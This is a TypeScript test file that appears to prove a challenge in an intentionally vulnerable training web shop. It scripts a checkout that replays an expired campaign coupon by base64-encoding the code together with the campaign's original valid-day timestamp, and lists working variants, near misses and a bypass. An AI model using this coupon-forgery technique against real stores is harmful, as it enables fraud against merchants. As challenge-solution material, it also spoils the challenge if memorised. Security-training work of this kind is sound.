import { addOrderDetails } from '@fruit/challenge-kit/order-details'
import { type Attack, type Attacker, prove } from '@fruit/challenge-kit/proof'
import { CAMPAIGNS } from '@fruit/isomorphic/campaigns'
import { challenge } from './challenge.ts'

const DAY = '1551999600000'

const encode = (text: string) => Buffer.from(text).toString('base64')

/** Puts an item into the basket and returns the basket's id with everything that an order needs. */
async function fillBasket(attacker: Attacker) {
  const { basketId } = await attacker.becomeCustomer()
  const orderDetails = await addOrderDetails(attacker)
  await attacker.post('/api/BasketItems', { ProductId: 2, BasketId: basketId, quantity: 1 })
  return { basketId, orderDetails }
}

/** Orders with `couponData` of a campaign. */
const orderWith =
  (couponData: unknown): Attack =>
  async (attacker) => {
    const { basketId, orderDetails } = await fillBasket(attacker)
    await attacker.post(`/rest/basket/${basketId}/checkout`, { couponData, orderDetails })
  }

export const proof = prove(challenge, {
  exploit: async (attacker) => {
    const { basketId, orderDetails } = await fillBasket(attacker)
    // The campaign code in the web client's scripts is refused because its day is over. The order claims that day as its date.
    await attacker.put(`/rest/basket/${basketId}/coupon/WMNSDY2019`)
    const couponData = encode(`WMNSDY2019-${DAY}`)
    await attacker.post(`/rest/basket/${basketId}/checkout`, { couponData, orderDetails })
  },
  spellings: {
    ...Object.fromEntries(
      CAMPAIGNS.slice(1).map(({ code, validOn }): [string, Attack] => [code, orderWith(encode(`${code}-${validOn}`))]),
    ),
    'a number with a zero in front': orderWith(encode(`WMNSDY2019-0${DAY}`)),
    'without the signs that fill up the end': orderWith(encode(`WMNSDY2019-0${DAY}`).replace(/(?<!=)=+$/, '')),
    'in the letters that addresses use': orderWith(Buffer.from(`ORANGE2020-1588546800000`).toString('base64url')),
    'with a line break behind it': orderWith(`${encode(`WMNSDY2019-${DAY}`)}\n`),
    'without saying how and where to': async (attacker) => {
      const { basketId } = await fillBasket(attacker)
      await attacker.post(`/rest/basket/${basketId}/checkout`, { couponData: encode(`WMNSDY2019-${DAY}`) })
    },
  },
  nearMisses: {
    'an order without a coupon': orderWith(undefined),
    'what the page sends after a coupon that is none': orderWith(encode('null')),
    'the code with the day that it is today': orderWith(encode(`WMNSDY2019-${Date.now()}`)),
    'the code with the day of another campaign': orderWith(encode('WMNSDY2019-1583622000000')),
    'the code with the day in seconds': orderWith(encode('WMNSDY2019-1551999600')),
    'the code alone': orderWith(encode('WMNSDY2019')),
    'code and day as they are': orderWith(`WMNSDY2019-${DAY}`),
    'code and day, encoded twice': orderWith(encode(encode(`WMNSDY2019-${DAY}`))),
    'a campaign that there never was': orderWith(encode('WMNSDY2018-1520463600000')),
    'the code in small letters': orderWith(encode(`wmnsdy2019-${DAY}`)),
    'the code as a coupon of the basket': async (attacker) => {
      const { basketId, orderDetails } = await fillBasket(attacker)
      await attacker.put(`/rest/basket/${basketId}/coupon/WMNSDY2019`)
      await attacker.post(`/rest/basket/${basketId}/checkout`, { orderDetails })
    },
    'an order of nothing': async (attacker) => {
      const { basketId } = await attacker.becomeCustomer()
      await attacker.post(`/rest/basket/${basketId}/checkout`, { couponData: encode(`WMNSDY2019-${DAY}`) })
    },
  },
  bypasses: {
    'guard-the-best-offer': orderWith(encode('WMNSDY2020-1583622000000')),
  },
})
